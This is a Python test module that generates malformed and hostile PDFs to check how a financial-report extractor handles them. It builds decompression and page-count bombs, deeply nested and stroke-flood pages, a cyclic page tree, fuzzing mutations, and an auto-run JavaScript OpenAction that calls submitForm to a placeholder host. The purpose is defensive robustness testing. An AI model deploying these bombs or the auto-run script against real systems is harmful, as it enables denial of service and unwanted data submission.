"""Bad and hostile input made from the committed samples: what folders collected from the web hold.

Two kinds, both deterministic:
- named bad files (:data:`BAD_FILES`): a scanned report, a report whose fonts lost their Unicode
  map, a truncated download, an HTML page saved as .pdf, encrypted files, a page-count bomb, a
  stream bomb ... each with the error code (or status) the extractor must end with;
- mutations for fuzzing (:func:`mutate`): byte flips, truncation, duplicated or deleted objects,
  a broken cross-reference table, applied to a sample's bytes with a seeded random generator.
"""

from __future__ import annotations

import random
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pymupdf
import regex

# --- scanned reports ------------------------------------------------------------------------


def _scanned_page(res: pymupdf.Document, page: pymupdf.Page, dpi: int) -> None:
    """Append ``page`` to ``res`` as a scanner gives it: a grey JPEG image and no text layer."""
    pix = page.get_pixmap(dpi=dpi, colorspace=pymupdf.csGRAY)
    new = res.new_page(width=page.rect.width, height=page.rect.height)
    new.insert_image(new.rect, stream=pix.tobytes("jpeg", jpg_quality=85))


def scanned(src: Path, out: Path, pages: list[int] | None = None, keep_text: tuple[int, ...] = (),
            dpi: int = 200) -> Path:
    """``src``'s pages (1-based ``pages``, default all) as a scan: each page rendered to a grey image
    at ``dpi`` and placed on an otherwise empty page, as a scanner's PDF has it. Pages listed in
    ``keep_text`` are copied with their text layer instead (a report whose statements were scanned)."""
    doc = pymupdf.open(src)
    res = pymupdf.open()
    for number in pages or range(1, doc.page_count + 1):
        page = doc[number - 1]
        if number in keep_text:
            res.insert_pdf(doc, from_page=number - 1, to_page=number - 1)
            continue
        _scanned_page(res, page, dpi)
    res.save(out, garbage=3, deflate=True)
    return out


def scanned_statements(src: Path, out: Path, statements: list[int], section: list[int], dpi: int = 150) -> Path:
    """``src`` as a text report whose audited financial statements were scanned in, the way some
    A-share companies file (江西铜业 2025): the front part keeps its text layer and loses its printed
    contents (``src`` page 2); the financial section (1-based ``section`` pages, from the audit
    report on) is numbered on its own from 1, opens with a contents page of its own in the text
    layer (审计报告 1, 合并资产负债表 2-3, 合并利润表 ...: where the statements are, in the section's
    numbering), and its ``statements`` pages become images at ``dpi``; the rest stays text. The
    statement titles of the contents come from the pages themselves. Gives ``out``; the page of
    ``src`` page n in it is ``scanned_statements_page(section, n)``."""
    doc = pymupdf.open(src)
    renumbered = pymupdf.open()
    renumbered.insert_pdf(doc)
    for k, number in enumerate(section, start=1):
        _renumber(renumbered[number - 1], k)
    res = pymupdf.open()
    res.insert_pdf(renumbered, from_page=0, to_page=0)
    res.insert_pdf(renumbered, from_page=2, to_page=section[0] - 2)
    _contents_page(res, renumbered, section, doc[0].rect)
    for number in range(section[0], doc.page_count + 1):
        page = renumbered[number - 1]
        if number not in statements:
            res.insert_pdf(renumbered, from_page=number - 1, to_page=number - 1)
            continue
        _scanned_page(res, page, dpi)
    res.save(out, garbage=3, deflate=True)
    return out


def scanned_statements_page(section: list[int], number: int) -> int:
    """The page of ``src`` page ``number`` in :func:`scanned_statements`' result (the front
    contents dropped, the section's contents inserted)."""
    return number - 1 if number < section[0] else number


_TITLE_LINE = regex.compile(r"^(?:[（(][一二三四五六七八九十]+[)）]|[一二三四五六七八九十\d]+、)?\s*(审计报告|合并资产负债表|母公司资产负债表|合并利润表|"
                            r"母公司利润表|合并现金流量表|母公司现金流量表|财务报表项目注释|合并财务报表项目注释)")


def _contents_page(res: pymupdf.Document, doc: pymupdf.Document, section: list[int], rect: pymupdf.Rect) -> None:
    """A contents page listing the section's statements with the section's page numbers."""
    entries: list[tuple[str, int, int]] = []
    for k, number in enumerate(section, start=1):
        for line in doc[number - 1].get_text().split("\n"):
            m = _TITLE_LINE.match(line.strip())
            if m is None or "续" in line:
                continue
            title = m.group(1)
            if entries and entries[-1][0] == title:
                continue
            entries.append((title, k, k))
    for i in range(len(entries) - 1):  # a statement runs to the page before the next one starts
        title, first, _ = entries[i]
        entries[i] = (title, first, max(first, entries[i + 1][1] - 1))
    page = res.new_page(width=rect.width, height=rect.height)
    page.insert_text((250, 110), "目  录", fontname="china-s", fontsize=16)
    y = 160.0
    for title, first, last in entries:
        page.insert_text((110, y), title, fontname="china-s", fontsize=11)
        page.insert_text((430, y), f"{first}" if first == last else f"{first} - {last}", fontname="helv", fontsize=11)
        y += 26


def _renumber(page: pymupdf.Page, number: int) -> None:
    """Replace the page number printed alone at the page's foot with ``number``."""
    foot = [w for w in page.get_text("words") if w[4].isdigit() and w[1] > 0.85 * page.rect.height]
    if not foot:
        return
    x0, y0, x1, y1, *_ = max(foot, key=lambda w: w[1])
    page.add_redact_annot(pymupdf.Rect(x0, y0, x1, y1))
    page.apply_redactions(images=pymupdf.PDF_REDACT_IMAGE_NONE)
    page.insert_text((x0, y1 - 1.5), str(number), fontname="helv", fontsize=max(6.0, (y1 - y0) * 0.8))


# --- text layers that decode to garbage ------------------------------------------------------


def unmapped_fonts(src: Path, out: Path) -> Path:
    """``src`` with every font's ToUnicode map removed: MuPDF then maps glyph codes through the
    font's own encoding, and the text comes out as control characters and symbol mixes."""
    doc = pymupdf.open(src)
    for xref in range(1, doc.xref_length()):
        try:
            if doc.xref_get_key(xref, "ToUnicode")[0] != "null":
                doc.xref_set_key(xref, "ToUnicode", "null")
        except Exception:  # noqa: BLE001, S112 - a free or broken object slot
            continue
    doc.save(out)
    return out


def scrambled_map(src: Path, out: Path, seed: int = 7) -> Path:
    """``src`` with every ToUnicode map rewritten to send each glyph to a printable Latin or symbol
    character: text that decodes, but to nonsense ("ÆqÓ}Ñ..."), as a PDF with a wrong map has it."""
    rnd = random.Random(seed)
    doc = pymupdf.open(src)
    pool = [chr(c) for c in range(0x21, 0x7F)] + [chr(c) for c in range(0xC0, 0x180)]
    for xref in range(1, doc.xref_length()):
        try:
            kind, value = doc.xref_get_key(xref, "ToUnicode")
        except Exception:  # noqa: BLE001, S112 - a free or broken object slot
            continue
        if kind != "xref":
            continue
        cmap_xref = int(value.split()[0])
        cmap = doc.xref_stream(cmap_xref).decode("latin-1")

        def remap(m: regex.Match[str]) -> str:
            return f"<{m.group(1)}> <{ord(rnd.choice(pool)):04X}>"

        cmap = regex.sub(r"<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]{4,})>", remap, cmap)
        cmap = regex.sub(r"<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]{4,})>",
                         lambda m: f"<{m.group(1)}> <{m.group(2)}> <{ord(rnd.choice(pool)):04X}>", cmap)
        doc.update_stream(cmap_xref, cmap.encode("latin-1"))
    doc.save(out)
    return out


# --- damaged, encrypted, not a PDF -----------------------------------------------------------


def truncated(src: Path, out: Path, keep: float) -> Path:
    """The first ``keep`` share of the file's bytes: an interrupted download."""
    data = src.read_bytes()
    out.write_bytes(data[: int(len(data) * keep)])
    return out


def encrypted(src: Path, out: Path, user_pw: str = "", owner_pw: str = "owner-secret") -> Path:
    """``src`` encrypted (AES-256). With a user password it cannot be opened without one; with only
    an owner password it opens, with copying and printing restricted."""
    doc = pymupdf.open(src)
    perm = pymupdf.PDF_PERM_ACCESSIBILITY if not user_pw else -1
    doc.save(out, encryption=pymupdf.PDF_ENCRYPT_AES_256, user_pw=user_pw, owner_pw=owner_pw, permissions=perm)
    return out


HTML_PAGE = """<!DOCTYPE html>
<html lang="zh-CN"><head><meta charset="utf-8"><title>登录 - 巨潮资讯网</title></head>
<body><p>您请求的文件需要登录后下载。<a href="/login">登录</a></p></body></html>
"""


def page_count_bomb(out: Path, pages: int) -> Path:
    """A PDF with ``pages`` pages that all draw one shared content stream: a few bytes per page to
    store, a full page's work each to read."""
    text = b"BT /F1 10 Tf 72 770 Td (Filler page of a page-count bomb: nothing to read here.) Tj ET"
    out.write_bytes(_shared_content(pages, f"<< /Length {len(text)} >>\nstream\n".encode() + text + b"\nendstream"))
    return out


def _shared_content(pages: int, stream: bytes) -> bytes:
    """A PDF of ``pages`` pages that all draw the content stream object ``stream`` in Helvetica."""
    first = 5
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        f"<< /Type /Pages /Count {pages} /Kids [{' '.join(f'{first + i} 0 R' for i in range(pages))}] >>".encode(),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        stream,
    ]
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 3 0 R >> >> >>"
    objects.extend(page for _ in range(pages))
    return raw_pdf(objects)


def raw_pdf(objects: list[bytes]) -> bytes:
    """A PDF file from object bodies (object 1 is the catalog), with a correct xref table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for n, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{n} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{o:010d} 00000 n \n".encode() for o in offsets)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def stream_bomb(out: Path, megabytes: int = 200) -> Path:
    """One page whose content stream inflates from a few hundred kB to ``megabytes`` MB of blanks."""
    raw = zlib.compress(b" " * (megabytes << 20), 9)
    out.write_bytes(raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << >> >>",
        f"<< /Length {len(raw)} /Filter /FlateDecode >>\nstream\n".encode() + raw + b"\nendstream",
    ]))
    return out


def javascript(src: Path, out: Path) -> Path:
    """``src`` with a document-level OpenAction script and a launch action: never to be run."""
    doc = pymupdf.open(src)
    cat = doc.pdf_catalog()
    js = doc.get_new_xref()
    doc.update_object(js, "<< /Type /Action /S /JavaScript /JS (app.alert('pwned'); this.submitForm('http://example.invalid/')) >>")
    doc.xref_set_key(cat, "OpenAction", f"{js} 0 R")
    doc.save(out)
    return out


# --- named bad files -------------------------------------------------------------------------


@dataclass(frozen=True)
class BadFile:
    name: str
    make: Callable[[Path, Path], Path]  # (samples folder, output path) -> path
    code: str  # error code, or "ok" / "partial" when the file must still be read
    hint: str  # a phrase the message must contain (what to do)


def _bytes(data: bytes) -> Callable[[Path, Path], Path]:
    def make(_samples: Path, out: Path) -> Path:
        out.write_bytes(data)
        return out
    return make


BAD_FILES: tuple[BadFile, ...] = (
    BadFile("empty", _bytes(b""), "not_a_pdf", "download"),
    BadFile("html_saved_as_pdf", _bytes(HTML_PAGE.encode()), "not_a_pdf", "HTML page"),
    BadFile("random_bytes", _bytes(random.Random(3).randbytes(50_000)), "not_a_pdf", "download"),
    BadFile("zip_archive", _bytes(b"PK\x03\x04" + bytes(200)), "not_a_pdf", "ZIP"),
    BadFile("png_image", _bytes(b"\x89PNG\r\n\x1a\n" + bytes(200)), "not_a_pdf", "img2pdf"),
    BadFile("header_only", _bytes(b"%PDF-1.7\n%%EOF\n"), "damaged", "download it again"),
    BadFile("truncated_10pc", lambda s, o: truncated(s / "s02_ashare_libreoffice.pdf", o, 0.10), "damaged",
            "download it again"),
    BadFile("truncated_60pc", lambda s, o: truncated(s / "s02_ashare_libreoffice.pdf", o, 0.60), "damaged",
            "download it again"),
    BadFile("truncated_97pc", lambda s, o: truncated(s / "s01_bse_reportlab.pdf", o, 0.97), "ok", ""),
    BadFile("user_password", lambda s, o: encrypted(s / "s01_bse_reportlab.pdf", o, user_pw="open-me"),
            "encrypted", "--password"),
    BadFile("owner_password_only", lambda s, o: encrypted(s / "s01_bse_reportlab.pdf", o), "ok", ""),
    BadFile("fonts_without_unicode_map", lambda s, o: unmapped_fonts(s / "s02_ashare_libreoffice.pdf", o),
            "garbled_text", "another copy"),
    BadFile("scrambled_unicode_map", lambda s, o: scrambled_map(s / "s02_ashare_libreoffice.pdf", o),
            "garbled_text", "another copy"),
    BadFile("no_statement", lambda s, o: _pages(s / "s01_bse_reportlab.pdf", o, list(range(1, 11))),
            "no_income_statement", "--patterns"),
    BadFile("javascript_open_action", lambda s, o: javascript(s / "s06_us_chromium.pdf", o), "ok", ""),
    BadFile("stream_bomb", lambda s, o: stream_bomb(o), "no_text_layer", "another copy"),
    BadFile("page_count_bomb", lambda s, o: page_count_bomb(o, 6000), "no_income_statement", "max_pages"),
    BadFile("scanned_no_ocr_budget", lambda s, o: scanned(s / "s06_us_chromium.pdf", o, pages=[1, 4, 9]),
            "no_text_layer", "ocrmypdf"),
)


def _pages(src: Path, out: Path, pages: list[int]) -> Path:
    doc = pymupdf.open(src)
    doc.select([p - 1 for p in pages])
    doc.save(out, garbage=3)
    return out


# --- fuzzing ---------------------------------------------------------------------------------

MUTATIONS = ("flip_bytes", "truncate", "duplicate_object", "delete_object", "break_xref", "zero_run",
             "shuffle_lines")


def mutate(data: bytes, kind: str, rnd: random.Random) -> bytes:
    """One deterministic mutation of a PDF's bytes."""
    b = bytearray(data)
    n = len(b)
    if kind == "flip_bytes":
        for _ in range(rnd.choice((1, 4, 16, 64))):
            i = rnd.randrange(n)
            b[i] ^= 1 << rnd.randrange(8)
        return bytes(b)
    if kind == "truncate":
        return bytes(b[: rnd.randrange(16, n)])
    if kind == "zero_run":
        i = rnd.randrange(n)
        length = rnd.choice((8, 256, 4096))
        b[i:i + length] = bytes(min(length, n - i))
        return bytes(b)
    objs = [m.span() for m in regex.finditer(rb"\d+ \d+ obj\b.*?endobj", data, flags=regex.DOTALL)]
    if kind == "duplicate_object" and objs:
        s, e = rnd.choice(objs)
        at = rnd.choice(objs)[0]
        return data[:at] + data[s:e] + b"\n" + data[at:]
    if kind == "delete_object" and objs:
        s, e = rnd.choice(objs)
        return data[:s] + data[e:]
    if kind == "break_xref":
        m = list(regex.finditer(rb"startxref\s+(\d+)", data))
        if m:
            last = m[-1]
            bogus = str(rnd.randrange(n * 2)).encode()
            return data[:last.start(1)] + bogus + data[last.end(1):]
        return data.replace(b"xref", b"xreF", 1)
    if kind == "shuffle_lines":
        lines = data.split(b"\n")
        i = rnd.randrange(len(lines))
        j = rnd.randrange(len(lines))
        lines[i], lines[j] = lines[j], lines[i]
        return b"\n".join(lines)
    return bytes(b)


def fuzz_cases(samples: list[Path], count: int, seed: int) -> list[tuple[str, bytes]]:
    """``count`` mutated files, (name, bytes), cycling through samples and mutation kinds."""
    rnd = random.Random(seed)
    originals = [(p.stem, p.read_bytes()) for p in samples]
    cases = []
    for k in range(count):
        stem, data = originals[k % len(originals)]
        kind = MUTATIONS[(k // len(originals)) % len(MUTATIONS)]
        cases.append((f"{k:04d}_{stem}_{kind}", mutate(data, kind, rnd)))
    return cases


# --- resource bombs (issue 25): small files, large work ----------------------------------------


def _one_page(content: bytes, resources: bytes = b"<< /Font << /F1 5 0 R >> >>", compress: bool = True) -> bytes:
    """A one-page PDF drawing ``content`` (deflated), with Helvetica as /F1."""
    raw = zlib.compress(content, 9) if compress else content
    flt = " /Filter /FlateDecode" if compress else ""
    return raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources " + resources + b" >>",
        f"<< /Length {len(raw)}{flt} >>\nstream\n".encode() + raw + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ])


def glyph_flood(out: Path, glyphs: int = 60_000, per_span: int = 1) -> Path:
    """One page of ``glyphs`` tiny glyphs, ``per_span`` to a text-showing operator: a few hundred kB
    that MuPDF turns into a text page of ``glyphs`` characters (and as many spans when per_span is 1)."""
    ops = [b"BT /F1 0.5 Tf"]
    run = b"A" * per_span
    for i in range(glyphs // per_span):
        ops.append(b"1 0 0 1 %d %d Tm (%s) Tj" % (10 + (i * 7) % 575, 10 + (i // 82) % 820, run))
    ops.append(b"ET")
    out.write_bytes(_one_page(b"\n".join(ops)))
    return out


def nested_q(out: Path, depth: int = 200_000) -> Path:
    """One page whose content stream saves the graphics state ``depth`` times without restoring it."""
    out.write_bytes(_one_page(b"q " * depth + b"BT /F1 12 Tf 72 720 Td (deep) Tj ET " + b"Q " * depth))
    return out


def stroke_flood(out: Path, strokes: int = 2_000_000) -> Path:
    """One page of ``strokes`` short stroked lines, each stroked on its own: slow to draw."""
    ops = [b"0.1 w"]
    for i in range(strokes):
        x, y = 20 + (i * 13) % 550, 20 + (i * 7) % 800
        ops.append(b"%d %d m %d %d l S" % (x, y, x + 3, y + 2))
    ops.append(b"BT /F1 12 Tf 72 800 Td (Strokes) Tj ET")
    out.write_bytes(_one_page(b"\n".join(ops)))
    return out


def unloadable_page(out: Path, pages: int = 3, bad: int = 2) -> Path:
    """``pages`` text pages of which page ``bad`` (1-based) is a page-tree node that holds itself:
    MuPDF counts it but cannot load it ("cycle in page tree")."""
    text = b"BT /F1 10 Tf 72 770 Td (A page of ordinary text, long enough to count as a page with a text layer.) Tj ET"
    first = 5
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        f"<< /Type /Pages /Count {pages} /Kids [{' '.join(f'{first + i} 0 R' for i in range(pages))}] >>".encode(),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        f"<< /Length {len(text)} >>\nstream\n".encode() + text + b"\nendstream",
    ]
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 3 0 R >> >> >>"
    loop = f"<< /Type /Pages /Parent 2 0 R /Kids [{first + bad - 1} 0 R] /Count 1 >>".encode()
    objects.extend(loop if i + 1 == bad else page for i in range(pages))
    out.write_bytes(raw_pdf(objects))
    return out


def add_strokes(src: Path, out: Path, page: int, strokes: int) -> Path:
    """``src`` with ``strokes`` short stroked lines drawn over page ``page`` (1-based): slow to draw."""
    doc = pymupdf.open(src)
    pg = doc[page - 1]
    ops = [b"q 0.1 w"]
    for i in range(strokes):
        x, y = 20 + (i * 13) % 550, 20 + (i * 7) % 800
        ops.append(b"%d %d m %d %d l S" % (x, y, x + 3, y + 2))
    ops.append(b"Q")
    xref = doc.get_new_xref()
    doc.update_object(xref, "<< >>")
    doc.update_stream(xref, b"\n".join(ops))
    contents = " ".join(f"{x} 0 R" for x in pg.get_contents())
    doc.xref_set_key(pg.xref, "Contents", f"[{contents} {xref} 0 R]")
    doc.save(out, garbage=0, deflate=True)
    return out


def whitespace_bomb(out: Path, pages: int = 3000, megabytes: int = 20) -> Path:
    """``pages`` pages sharing one content stream that inflates to ``megabytes`` MB of blanks before
    its line of text: a few dozen kB that take a fraction of a second a page, minutes in all."""
    content = b" " * (megabytes << 20) + b"BT /F1 10 Tf 72 770 Td (Filler page: nothing to read here.) Tj ET"
    raw = zlib.compress(content, 9)
    out.write_bytes(_shared_content(
        pages, f"<< /Length {len(raw)} /Filter /FlateDecode >>\nstream\n".encode() + raw + b"\nendstream"))
    return out


# --- structural mutations (pymupdf edits of a report's pages) ------------------------------------

STRUCTURAL = ("content_ops", "broken_tounicode", "scanned_statement", "deep_nesting", "huge_page",
              "blank_amount", "move_amount", "move_header")


@dataclass
class Target:
    """Where a report's income statement is, from the unmutated report's extraction: the structural
    mutations aim at it (a random page when it is unknown). Pages 0-based; bboxes in PDF points,
    origin top-left, as OUTPUT.md's figures give them."""

    statement_pages: list[int]
    amounts: list[tuple[str, int, tuple[float, float, float, float], str]]  # (figure, page, bbox, printed)
    headers: list[str]  # the statement's column headers as printed

    @classmethod
    def from_report(cls, report: dict) -> Target:
        """From a report's JSON (OUTPUT.md): its statement pages, its income-statement amounts, its headers."""
        st = report.get("statement") or {}
        amounts = []
        for item, periods in sorted((report.get("figures") or {}).items()):
            for period, fig in sorted((periods or {}).items()):
                if fig and fig.get("source") == "income_statement" and fig.get("bbox") and fig.get("page"):
                    amounts.append((f"{item}.{period}", fig["page"] - 1, tuple(fig["bbox"]), fig.get("printed", "")))
        headers = [c["header"] for c in st.get("columns") or [] if c.get("header")]
        return cls([p - 1 for p in st.get("pages") or []], amounts, headers)


def _operators(content: bytes) -> list[tuple[int, int]]:
    """Spans of the content stream's operators (not inside strings: good enough to damage a stream)."""
    return [m.span() for m in regex.finditer(rb"(?<=[\s\])>])(?:BT|ET|Tj|TJ|Td|TD|Tm|Tf|cm|re|f\*?|S|q|Q|Do|w)(?=\s)",
                                             content)]


def _redact(page: pymupdf.Page, rect: pymupdf.Rect) -> None:
    """Remove the text in ``rect`` (a redaction), keeping images and the table's lines."""
    page.add_redact_annot(rect)
    page.apply_redactions(images=pymupdf.PDF_REDACT_IMAGE_NONE, graphics=pymupdf.PDF_REDACT_LINE_ART_NONE)


def mutate_structure(data: bytes, kind: str, rnd: random.Random, target: Target) -> tuple[bytes, str]:
    """One deterministic structural mutation of a PDF (see :data:`STRUCTURAL`), aimed at the income
    statement where ``target`` knows it; gives the new bytes and a description of what was done."""
    doc = pymupdf.open(stream=data, filetype="pdf")
    pages = [p for p in target.statement_pages if 0 <= p < doc.page_count] or [rnd.randrange(doc.page_count)]
    pno = rnd.choice(pages)
    page = doc[pno]
    where = f"page {pno + 1}"
    if kind == "content_ops":
        page.clean_contents()  # one content stream
        xref = page.get_contents()[0]
        content = doc.xref_stream(xref)
        ops = _operators(content)
        n = min(len(ops), rnd.choice((1, 5, 50)))
        chosen = sorted(rnd.sample(ops, n), reverse=True)
        how = rnd.choice(("delete", "replace"))
        for s, e in chosen:
            content = content[:s] + (b"" if how == "delete" else rnd.choice((b"Q", b"Tj", b"cm", b"ET", b"BT"))) + content[e:]
        doc.update_stream(xref, content)
        desc = f"content_ops: {how} {n} of {len(ops)} operators on {where}"
    elif kind == "broken_tounicode":
        fonts = [f for f in page.get_fonts(full=True)]
        broken = 0
        for f in fonts:
            kind_, value = doc.xref_get_key(f[0], "ToUnicode")
            if kind_ != "xref":
                continue
            cmap_xref = int(value.split()[0])
            cmap = doc.xref_stream(cmap_xref)
            how = rnd.choice(("truncate", "garble", "empty"))
            if how == "truncate":
                cmap = cmap[: rnd.randrange(1, max(2, len(cmap)))]
            elif how == "garble":
                cmap = regex.sub(rb"<([0-9A-Fa-f]{4})>", lambda m: b"<%04X>" % rnd.randrange(0x10000), cmap)
            else:
                cmap = b""
            doc.update_stream(cmap_xref, cmap)
            broken += 1
        desc = f"broken_tounicode: {broken} of {len(fonts)} fonts' ToUnicode maps on {where} truncated/garbled/emptied"
    elif kind == "scanned_statement":
        pix = page.get_pixmap(dpi=rnd.choice((100, 150)), colorspace=pymupdf.csGRAY)
        # the page keeps its place (and the outline its target); its drawing is emptied and the image put
        # on it (doc.delete_page fails on some outlines)
        page.clean_contents()
        doc.update_stream(page.get_contents()[0], b"")
        page.insert_image(page.rect, stream=pix.tobytes("jpeg", jpg_quality=80))
        desc = f"scanned_statement: {where} replaced by a {pix.width}x{pix.height} image of itself"
    elif kind == "deep_nesting":
        depth = rnd.choice((1_000, 50_000, 200_000))
        page.clean_contents()
        xref = page.get_contents()[0]
        balanced = rnd.random() < 0.5
        doc.update_stream(xref, b"q\n" * depth + doc.xref_stream(xref) + (b"\nQ" * depth if balanced else b""))
        desc = f"deep_nesting: {depth} nested q on {where} ({'balanced' if balanced else 'never closed'})"
    elif kind == "huge_page":
        how = rnd.choice(("mediabox", "scale"))
        if how == "mediabox":
            size = rnd.choice((14_400, 200_000, 10_000_000))
            doc.xref_set_key(page.xref, "MediaBox", f"[0 0 {size} {size}]")
            doc.xref_set_key(page.xref, "CropBox", "null")
            desc = f"huge_page: {where} MediaBox {size} x {size} pt"
        else:
            factor = rnd.choice((1_000, 1_000_000))
            page.clean_contents()
            xref = page.get_contents()[0]
            doc.update_stream(xref, f"q {factor} 0 0 {factor} 0 0 cm\n".encode() + doc.xref_stream(xref) + b"\nQ")
            desc = f"huge_page: {where} content scaled x{factor} (huge coordinates)"
    elif kind in ("blank_amount", "move_amount"):
        amounts = [a for a in target.amounts if 0 <= a[1] < doc.page_count]
        if not amounts:
            doc.close()
            return mutate_structure(data, "content_ops", rnd, target)
        name, apage, bbox, printed = rnd.choice(amounts)
        page = doc[apage]
        rect = pymupdf.Rect(bbox)
        _redact(page, rect + (-0.5, -0.5, 0.5, 0.5))
        if kind == "blank_amount":
            desc = f"blank_amount: {name} {printed!r} redacted on page {apage + 1} at {[round(c) for c in bbox]}"
        else:
            size = max(5.0, min(12.0, rect.height * 0.85))
            page.insert_text((rect.x0, rect.y1 + 20 - rect.height * 0.15), printed, fontsize=size, fontname="helv")
            desc = f"move_amount: {name} {printed!r} on page {apage + 1} moved 20 pt down"
    elif kind == "move_header":
        hits = [(h, r) for h in target.headers for r in page.search_for(h)] if target.headers else []
        if not hits:
            doc.close()
            return mutate_structure(data, "content_ops", rnd, target)
        how = rnd.choice(("down", "right", "swap"))
        for _h, r in hits:
            _redact(page, r + (-0.5, -0.5, 0.5, 0.5))
        for i, (h, r) in enumerate(hits):
            if how == "down":
                at = (r.x0, r.y1 + 30)
            elif how == "right":
                at = (r.x0 + 60, r.y1 - r.height * 0.15)
            else:  # each header printed over the next one's column
                other = hits[(i + 1) % len(hits)][1]
                at = (other.x0, r.y1 - r.height * 0.15)
            page.insert_text(at, h, fontsize=max(5.0, min(12.0, r.height * 0.85)), fontname="china-s")
        desc = f"move_header: column headers {[h for h, _ in hits]} on {where} moved {how}"
    else:
        raise ValueError(f"unknown structural mutation {kind!r}")
    out = doc.tobytes(garbage=1, no_new_id=True)  # no random /ID: the same seed gives the same file
    doc.close()
    return out, desc
